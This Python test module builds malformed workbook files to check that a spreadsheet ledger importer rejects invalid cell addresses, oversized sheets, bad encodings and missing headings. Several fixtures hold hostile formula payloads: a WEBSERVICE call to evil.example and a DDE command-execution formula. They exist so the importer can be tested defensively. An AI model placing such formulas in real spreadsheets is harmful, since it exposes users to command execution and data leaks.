"""Hostile cells: addresses that are nowhere or twice, values that are none, no ledger at all."""

from collections.abc import Callable

from tests.ledgers import packages
from tests.ledgers.hostile_contents import ONE, book, sheet_part
from tests.ledgers.packages import SHEET_PART, package, relation, relations, sheet, with_cell


def shared(strings: str, index: str) -> bytes:
    return package(
        {
            "xl/_rels/workbook.xml.rels": relations(
                relation("rId1", "worksheet", "worksheets/sheet1.xml"),
                relation("rId2", "sharedStrings", "sharedStrings.xml"),
            ),
            "xl/sharedStrings.xml": f'<sst xmlns="{packages.MAIN}">{strings}</sst>',
            SHEET_PART: with_cell(f'<c r="B4" t="s"><v>{index}</v></c>'),
        }
    )


def formula(text: str) -> bytes:
    return sheet_part(with_cell(f'<c r="D4"><f>{text}</f><v>1</v></c>'))


def sheets(count: int) -> bytes:
    entries = "".join(f'<sheet name="表{i}" sheetId="{i}" r:id="rId{i}"/>' for i in range(1, count + 1))
    lines = (relation(f"rId{i}", "worksheet", f"worksheets/sheet{i}.xml") for i in range(1, count + 1))
    more = {f"xl/worksheets/sheet{i}.xml": sheet("") for i in range(1, count + 1)}
    return book(entries, **{"xl/_rels/workbook.xml.rels": relations(*lines)}, **more)


def too_many_rows() -> bytes:
    row = '<row r="{0}"><c r="A{0}"><v>1</v></c></row>'
    return sheet_part(sheet("".join(row.format(number) for number in range(1, 20_003))))


def too_many_cells() -> bytes:
    rows = "".join(f"<row>{'<c/>' * 16_000}</row>" for _ in range(64))
    return packages.stored({SHEET_PART: sheet(rows)})


def merges(*references: str) -> bytes:
    lines = "".join(f'<mergeCell ref="{reference}"/>' for reference in references)
    return sheet_part(sheet(after=f"<mergeCells>{lines}</mergeCells>"))


def nothing_but_headings() -> bytes:
    return sheet_part(sheet("".join(packages.row(number, packages.HEADINGS) for number in range(1, 150))))


def sheets_with_hidden_ledger() -> bytes:
    entries = (
        '<sheet name="甲" sheetId="1" r:id="rId1"/><sheet name="乙" sheetId="2" state="hidden" r:id="rId2"/>'
    )
    lines = (relation(f"rId{i}", "worksheet", f"worksheets/sheet{i}.xml") for i in (1, 2))
    return package(
        {
            "xl/workbook.xml": packages.workbook(entries),
            "xl/_rels/workbook.xml.rels": relations(*lines),
            SHEET_PART: sheet(""),
            "xl/worksheets/sheet2.xml": sheet(),
        }
    )


def of_another_prefix(tag: str) -> bytes:
    """The two schools, some tags of which a reader that knows no namespaces does not see."""
    plain, name = sheet(), tag.split(maxsplit=1)[0]
    begin = plain.index(f"<{tag}")
    text = plain[:begin] + plain[begin:].replace(f"<{name} ", f"<x:{name} ").replace(
        f"</{name}>", f"</x:{name}>"
    )
    return sheet_part(text.replace("xmlns=", f'xmlns:x="{packages.MAIN}" xmlns='))


FILES: list[tuple[str, str, Callable[[], bytes]]] = [
    # cells that are nowhere, or twice
    ("E19", "row 0", lambda: sheet_part(sheet('<row r="0"/>'))),
    ("E19", "row -1", lambda: sheet_part(sheet('<row r="-1"/>'))),
    ("E19", "row 10^12", lambda: sheet_part(sheet('<row r="1000000000000"/>'))),
    ("E19", "full-width row", lambda: sheet_part(sheet('<row r="１"/>'))),
    ("E19", "no such column", lambda: sheet_part(with_cell('<c r="XFE4"><v>1</v></c>'))),
    ("E19", "lower case", lambda: sheet_part(with_cell('<c r="a4"><v>1</v></c>'))),
    ("E19", "no row", lambda: sheet_part(with_cell('<c r="A"><v>1</v></c>'))),
    ("E19", "another row", lambda: sheet_part(with_cell('<c r="A5"><v>1</v></c>'))),
    ("E19", "no merge", lambda: merges("B2:A1")),
    ("E20", "row twice", lambda: sheet_part(sheet('<row r="1"/><row r="1"/>'))),
    ("E20", "row backwards", lambda: sheet_part(sheet('<row r="2"/><row r="1"/>'))),
    ("E20", "cell twice", lambda: sheet_part(with_cell('<c r="A4"><v>1</v></c><c r="A4"><v>2</v></c>'))),
    ("E20", "cell backwards", lambda: sheet_part(with_cell('<c r="B4"><v>1</v></c><c r="A4"><v>2</v></c>'))),
    ("E21", "far below", lambda: sheet_part(sheet('<row r="1048576"><c r="A1048576"><v>1</v></c></row>'))),
    ("E21", "too many rows", too_many_rows),
    ("E21", "too many cells", too_many_cells),
    ("E22", "far right", lambda: sheet_part(with_cell('<c r="XFD4"><v>1</v></c>'))),
    ("E23", "rows of another prefix", lambda: of_another_prefix("row")),
    ("E23", "cells of another prefix", lambda: of_another_prefix("c")),
    ("E23", "one row of another prefix", lambda: of_another_prefix('row r="3"')),
    ("E24", "WEBSERVICE", lambda: formula('_xlfn.WEBSERVICE("http://evil.example")')),
    ("E24", "DDE", lambda: formula("cmd|'/c calc'!A0")),
    ("E24", "RTD", lambda: formula('RTD("evil",,"x")')),
    ("E25", "merge of everything", lambda: merges("A1:XFD1048576")),
    ("E25", "too many merges", lambda: merges(*(f"A{i}:B{i}" for i in range(10, 2_020)))),
    ("E26", "long text", lambda: sheet_part(with_cell(packages.cell("B4", "长" * 2_001)))),
    ("E26", "long shared text", lambda: shared(f"<si><t>{'长' * 2_001}</t></si>", "0")),
    ("E27", "NaN", lambda: sheet_part(with_cell("<c r='D4'><v>NaN</v></c>"))),
    ("E27", "endless", lambda: sheet_part(with_cell("<c r='D4'><v>1e999</v></c>"))),
    ("E27", "underscore", lambda: sheet_part(with_cell("<c r='D4'><v>1_000</v></c>"))),
    ("E27", "hexadecimal", lambda: sheet_part(with_cell("<c r='D4'><v>0x10</v></c>"))),
    ("E27", "full-width", lambda: sheet_part(with_cell("<c r='D4'><v>１２</v></c>"))),
    ("E28", "31 sheets", lambda: sheets(31)),
    ("E28", "two sheets of one name", lambda: book(ONE + '<sheet name="台账" sheetId="2" r:id="rId1"/>')),
    ("E28", "one sheet twice", lambda: book(ONE + '<sheet name="乙" sheetId="2" r:id="rId1"/>')),
    ("E28", "nothing visible", lambda: book(ONE.replace("name=", 'state="veryHidden" name='))),
    ("E30", "bad XML", lambda: sheet_part(sheet()[:-5])),
    ("E30", "utf-7", lambda: sheet_part('<?xml version="1.0" encoding="utf-7"?>' + sheet())),
    ("E30", "not UTF-8", lambda: package({SHEET_PART: sheet().encode("gb18030")})),
    ("E30", "no such sheet", lambda: book(ONE.replace("rId1", "rId7"))),
    ("E30", "no such string", lambda: shared("<si><t>甲</t></si>", "1")),
    ("E30", "string minus one", lambda: shared("<si><t>甲</t></si>", "-1")),
    ("E30", "unknown type", lambda: sheet_part(with_cell('<c r="A4" t="zz"><v>1</v></c>'))),
    ("E30", "two values", lambda: sheet_part(with_cell('<c r="A4"><v>1</v><v>2</v></c>'))),
    ("E30", "rows elsewhere", lambda: sheet_part(sheet("<x><row/></x>"))),
    ("E30", "two data areas", lambda: sheet_part(sheet(after="<sheetData/>"))),
    ("E30", "another vocabulary", lambda: sheet_part("<worksheet><sheetData/></worksheet>")),
    # a workbook, but no ledger
    ("E31", "hidden ledger", sheets_with_hidden_ledger),
    ("E32", "no headings", lambda: sheet_part(sheet(packages.row(1, ("甲", "乙"))))),
    ("E33", "no pupils", lambda: sheet_part(sheet(packages.row(1, ("学校名称", "图书册数（册）"))))),
    ("E33", "names alone", lambda: sheet_part(sheet(packages.row(1, ("学校标识码", "学校名称"))))),
    ("E34", "no school", lambda: sheet_part(sheet(packages.row(1, packages.HEADINGS)))),
    ("E35", "nothing but headings", nothing_but_headings),
]
